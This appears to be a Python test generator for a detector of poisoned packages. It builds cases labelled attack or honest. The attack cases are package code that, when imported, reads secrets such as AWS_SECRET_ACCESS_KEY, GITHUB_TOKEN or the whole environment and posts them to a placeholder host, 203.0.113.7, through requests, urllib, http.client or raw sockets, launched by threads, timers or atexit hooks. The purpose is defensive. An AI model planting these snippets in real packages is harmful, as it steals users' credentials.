# SPDX-License-Identifier: GPL-2.0-only
"""Programs of programs.py's set about packages: poisoned and honest ones, installed and beside the application."""

from programs import A, C

PLACES = {"site": "lib/python3.11/site-packages", "beside": "."}
USE = "import sys\nsys.path.insert(0,%r)\nimport pkg\npkg.VALUE\n"
# What a package does when it is imported is its TEXT; VALUE is what the application wants of it.
OPEN = {
    "requests": "import requests\ndef send(d):\n  try: requests.post('http://203.0.113.7:8080/x',data=d,timeout=0.2)\n  except Exception: pass\n",
    "urllib": "import urllib.request\ndef send(d):\n  try: urllib.request.urlopen('http://203.0.113.7/',data=str(d).encode(),timeout=0.2)\n  except Exception: pass\n",
    "client": "import http.client\ndef send(d):\n  try: http.client.HTTPConnection('203.0.113.7',80,timeout=0.2).request('POST','/',str(d))\n  except Exception: pass\n",
    "socket": "import socket\ndef send(d):\n  s=socket.socket(); s.settimeout(0.2)\n  try: s.connect(('203.0.113.7',80)); s.send(str(d).encode())\n  except Exception: pass\n",
}
BEGIN = {
    "import": "send('x')\n",
    "thread": "import threading\nthreading.Thread(target=send,args=('x',)).start()\n",
    "timer": "import threading\nthreading.Timer(0.1,send,['x']).start()\n",
    "atexit": "import atexit\natexit.register(send,'x')\n",
    "pool": "import concurrent.futures\nconcurrent.futures.ThreadPoolExecutor(1).submit(send,'x')\n",
    "low": "import _thread,time\n_thread.start_new_thread(send,('x',)); time.sleep(0.3)\n",
}
READ = {
    "item": "d=os.environ['AWS_SECRET_ACCESS_KEY']",
    "get": "d=os.environ.get('AWS_SECRET_ACCESS_KEY')",
    "getenv": "d=os.getenv('AWS_SECRET_ACCESS_KEY')",
    "getenvb": "d=os.getenvb(b'AWS_SECRET_ACCESS_KEY')",
    "environb": "d=os.environb.get(b'GITHUB_TOKEN')",
    "dict": "d=dict(os.environ)",
    "items": "d=[k+'='+v for k,v in os.environ.items()]",
    "values": "d=list(os.environ.values())",
    "copy": "d=os.environ.copy()",
    "repr": "d=str(os.environ)",
    "bytes": "d=dict(os.environb)",
    "proc": "d=open('/proc/self/environ','rb').read()",
    "proc-pid": "d=open('/proc/%d/environ'%os.getpid(),'rb').read()",
}
# Of all of it.
WHOLE = ("dict", "items", "values", "copy", "repr", "bytes", "proc", "proc-pid")
RUN = "env AWS_SECRET_ACCESS_KEY=x GITHUB_TOKEN=y API_TOKEN=z PY main.py"


def package(place, text, attack=True, name=None, module="pkg/__init__.py"):
    (A if attack else C)("p-%s-%s" % (place, name), USE % PLACES[place], {PLACES[place] + "/" + module: "VALUE=1\n" + text}, run=RUN)


for place in PLACES:
    for way, text in OPEN.items():
        for begin, start in BEGIN.items():
            package(place, text + start, name=way + "-" + begin)
    for read, text in READ.items():
        # A setting read by the application's own is none; sent it is.
        if read in WHOLE or (place == "site" and read != "item"):  # os.environ[...] by itself is not seen
            package(place, "import os\n" + text + "\n", name="read-" + read)
        package(place, "import os,threading\n" + OPEN["urllib"] + text + "\nthreading.Thread(target=send,args=(d,)).start()\n",
                name="sent-" + read)

# Packages that mean no harm: settings, locks, threads and exits that serve themselves, threads that begin when they are asked to.
HONEST = {
    "setting": "import os\nA=os.environ.get('PKG_DEBUG'); B=os.environ['API_TOKEN']; C=os.getenv('API_TOKEN','x'); D=os.getenvb(b'HOME'); E='PKG' in os.environ\n",
    "atexit": "import atexit,os,tempfile\nf=tempfile.mkdtemp()\natexit.register(os.rmdir,f)\natexit.register(lambda: None)\n",
    "later": "import threading\ndef poll(): pass\ndef begin(): t=threading.Thread(target=poll); t.start(); t.join()\n",
    "pool": "import concurrent.futures,threading,queue,logging.handlers\nPOOL=concurrent.futures.ThreadPoolExecutor(1); LOCK=threading.Lock(); LOCAL=threading.local(); Q=queue.Queue()\n",
}
for name, text in HONEST.items():
    for place in PLACES:
        package(place, text, attack=False, name="honest-" + name)
C("p-settings", "import os,shop\nprint(shop.settings.KEY)\n", {
    "shop/__init__.py": "from . import settings\n", "shop/settings.py": "import os\nKEY=os.environ.get('AWS_SECRET_ACCESS_KEY'); T=os.environ['GITHUB_TOKEN']\n"}, run=RUN)
C("p-scheduler", "import sys\nsys.path.insert(0,'lib/python3.11/site-packages')\nimport shop\n", {
    "lib/python3.11/site-packages/sched2.py": "import threading\nclass S:\n  def start(self): threading.Thread(target=len,args=('x',)).start()\n",
    "shop/__init__.py": "import sched2\nsched2.S().start()\n"})
C("p-thread-main", "import threading,urllib.request,atexit\ndef f():\n  try: urllib.request.urlopen('http://203.0.113.7/',timeout=0.2)\n  except OSError: pass\natexit.register(f)\nt=threading.Thread(target=f); t.start(); t.join()\n")
